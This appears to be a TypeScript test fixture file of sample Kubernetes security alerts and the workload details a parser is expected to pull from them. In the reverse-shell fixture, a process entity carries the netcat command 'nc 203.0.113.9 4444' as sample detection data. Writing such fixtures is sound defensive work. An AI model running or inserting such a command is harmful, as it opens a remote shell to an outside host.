import {
  clusterEntities,
  clusterGroup,
  clusterId,
  clusterName,
  namespaceEntity,
  restAlert,
  type AlertFixture,
} from "./alertFixture";

type Json = Readonly<Record<string, unknown>>;

const ofController = ["describeController", "controllerPods", "controllerLogs", "controllerEvents"] as const;
const entitiesOfCluster = [`azureResource ${clusterName}`, `cluster ${clusterName}`];

const auditAlert = (entities: readonly Json[], extendedProperties: Json) =>
  restAlert(clusterGroup, clusterId, {
    alertType: "K8S_SensitiveMount",
    alertDisplayName: "Container with a sensitive volume mount detected",
    compromisedEntity: clusterName,
    entities: [...clusterEntities, ...entities],
    extendedProperties: { resourceType: "Kubernetes Service", ...extendedProperties },
  });

/** real-data.md §3: entities of a workload without a pod, `K8s-deployment`; `container` has no prefix and refers to its image. */
const deployment: AlertFixture = {
  shape: "a Deployment by its entity, no pod",
  rest: auditAlert(
    [
      { $id: "e5", imageId: "harbour.azurecr.io/crane:2.1", asset: false, type: "container-image" },
      { $id: "e6", name: "crane", image: { $ref: "e5" }, asset: false, type: "container" },
      namespaceEntity("e7", "docks"),
      { $id: "e8", name: "crane-api", namespace: { $ref: "e7" }, asset: false, type: "K8s-deployment" },
    ],
    { "container name": "crane", "container image": "harbour.azurecr.io/crane:2.1", namespace: "docks" },
  ),
  says: {
    affected: clusterName,
    subject: {
      namespace: "docks",
      container: "crane",
      image: "harbour.azurecr.io/crane:2.1",
      workload: { kind: "Deployment", name: "crane-api" },
    },
    entities: [
      ...entitiesOfCluster,
      "namespace docks",
      "workload crane-api",
      "container crane",
      "containerImage harbour.azurecr.io/crane:2.1",
    ],
    commands: ofController,
    queries: {
      auditLog: ["ObjectNamespace == 'docks'", "ObjectName matches regex '^crane-api("],
      auditAdminLog: ["ObjectNamespace == 'docks'", "ObjectName matches regex '^crane-api("],
    },
    search: "crane",
  },
};

/** real-data.md §3: the controller only in the facts `object kind` and `object name`, which come in several spellings. */
const byFacts = (
  kind: string,
  spelled: string,
  labels: readonly [string, string],
  name: string,
): AlertFixture => ({
  shape: `a ${kind} by facts, its kind spelled ${spelled}`,
  rest: auditAlert([namespaceEntity("e7", "docks")], {
    [labels[0]]: spelled,
    [labels[1]]: name,
    namespace: "docks",
  }),
  says: {
    affected: clusterName,
    subject: { namespace: "docks", workload: { kind, name } },
    entities: [...entitiesOfCluster, "namespace docks"],
    commands: kind === "CronJob" ? ofController.filter((id) => id !== "controllerLogs") : ofController,
    queries: {
      auditLog: [`ObjectName matches regex '^${name}(`],
      auditAdminLog: [`ObjectName matches regex '^${name}(`],
    },
    search: name,
  },
});

/** real-data.md §3: "other workload kinds are to be expected in the same form [?]", here one that Kubernetes does not have. */
const unknownKind = (type: string, kind: string): AlertFixture => ({
  shape: `a workload of an unknown kind, ${type}`,
  rest: auditAlert(
    [
      namespaceEntity("e7", "docks"),
      { $id: "e8", name: "quay", namespace: { $ref: "e7" }, asset: false, type },
    ],
    {},
  ),
  says: {
    affected: clusterName,
    subject: { namespace: "docks", workload: { kind, name: "quay" } },
    entities: [...entitiesOfCluster, "namespace docks", "workload quay"],
    commands: ofController.filter((id) => id !== "controllerLogs"),
    queries: {
      auditLog: ["ObjectName matches regex '^quay(-.+)?$'"],
      auditAdminLog: ["ObjectName matches regex '^quay(-.+)?$'"],
    },
    search: "quay",
  },
});

/** real-data.md §3 [3P]: `K8s-pod` beside the controller that it belongs to, as the sensor tells of it. */
const podOfDaemonSet: AlertFixture = {
  shape: "a pod with its DaemonSet",
  rest: restAlert(clusterGroup, clusterId, {
    alertType: "K8S.NODE_ReverseShell",
    alertDisplayName: "Potential reverse shell detected",
    compromisedEntity: "beacon-x7k2q",
    entities: [
      ...clusterEntities,
      namespaceEntity("e7", "signals"),
      { $id: "e8", name: "beacon", namespace: { $ref: "e7" }, asset: false, type: "K8s-daemonset" },
      { $id: "e9", name: "beacon-x7k2q", namespace: { $ref: "e7" }, asset: true, type: "K8s-pod" },
      { $id: "e10", hostName: "aks-apps-27182818-vmss00000a", asset: true, type: "host" },
      {
        $id: "e11",
        commandLine: "nc 203.0.113.9 4444",
        host: { $ref: "e10" },
        asset: false,
        type: "process",
      },
    ],
    extendedProperties: { "Container name": "lamp", userName: "root" },
  }),
  says: {
    affected: "beacon-x7k2q",
    subject: {
      namespace: "signals",
      pod: "beacon-x7k2q",
      container: "lamp",
      node: "aks-apps-27182818-vmss00000a",
      pool: "apps",
      workload: { kind: "DaemonSet", name: "beacon" },
    },
    entities: [
      ...entitiesOfCluster,
      "namespace signals",
      "workload beacon",
      "pod beacon-x7k2q",
      "host aks-apps-27182818-vmss00000a",
      "process nc 203.0.113.9 4444",
    ],
    commands: [
      "describePod",
      "podLogs",
      "previousPodLogs",
      "podEvents",
      "describeNode",
      "nodePods",
      "isolatePod",
      "cordonNode",
    ],
    queries: {
      containerLog: ["PodNamespace == 'signals'", "PodName == 'beacon-x7k2q'", "ContainerName == 'lamp'"],
      podEventLog: ["Namespace == 'signals'", "Name == 'beacon-x7k2q'"],
    },
    search: "lamp",
  },
};

/** The same where the entities are of several: the facts say which of them it is about, whatever their order. */
const severalControllers: AlertFixture = {
  shape: "several Deployments, one of which the facts name",
  rest: auditAlert(
    [
      namespaceEntity("e7", "docks"),
      { $id: "e8", name: "tug", namespace: { $ref: "e7" }, asset: false, type: "K8s-deployment" },
      { $id: "e9", name: "barge", namespace: { $ref: "e7" }, asset: false, type: "K8s-deployment" },
    ],
    { "object kind": "deployment", "object name": "barge" },
  ),
  says: {
    affected: clusterName,
    subject: { namespace: "docks", workload: { kind: "Deployment", name: "barge" } },
    entities: [...entitiesOfCluster, "namespace docks", "workload tug", "workload barge"],
    commands: ofController,
    queries: {
      auditLog: ["ObjectName matches regex '^barge("],
      auditAdminLog: ["ObjectName matches regex '^barge("],
    },
    search: "barge",
  },
};

/** The same of a ReplicaSet, which its Deployment made. */
const madeByDeployment: AlertFixture = {
  shape: "a ReplicaSet by facts, and Deployments whose names begin alike",
  rest: auditAlert(
    [
      namespaceEntity("e7", "docks"),
      { $id: "e8", name: "crane", namespace: { $ref: "e7" }, asset: false, type: "K8s-deployment" },
      { $id: "e9", name: "crane-arm", namespace: { $ref: "e7" }, asset: false, type: "K8s-deployment" },
    ],
    { "object kind": "ReplicaSet", "object name": "crane-arm-6d4f8b9c77" },
  ),
  says: {
    affected: clusterName,
    subject: { namespace: "docks", workload: { kind: "Deployment", name: "crane-arm" } },
    entities: [...entitiesOfCluster, "namespace docks", "workload crane", "workload crane-arm"],
    commands: ofController,
    queries: {
      auditLog: ["ObjectName matches regex '^crane-arm("],
      auditAdminLog: ["ObjectName matches regex '^crane-arm("],
    },
    search: "crane-arm",
  },
};

export const controllerAlerts: readonly AlertFixture[] = [
  deployment,
  byFacts("DaemonSet", "daemon set", ["object kind", "object name"], "buoy"),
  byFacts("StatefulSet", "statefulsets.apps", ["objectKind", "objectName"], "ledger"),
  byFacts("CronJob", "batch/v1/CronJob", ["Object Kind", "Object Name"], "tides"),
  byFacts("Deployment", "DEPLOYMENT", ["object_kind", "object_name"], "mole"),
  byFacts("ReplicaSet", "K8s-replicaset", ["Object kind", "Object name"], "pier-6d4f"),
  unknownKind("K8s-rollout", "Rollout"),
  unknownKind("K8s-CloneSet", "CloneSet"),
  severalControllers,
  madeByDeployment,
  podOfDaemonSet,
];
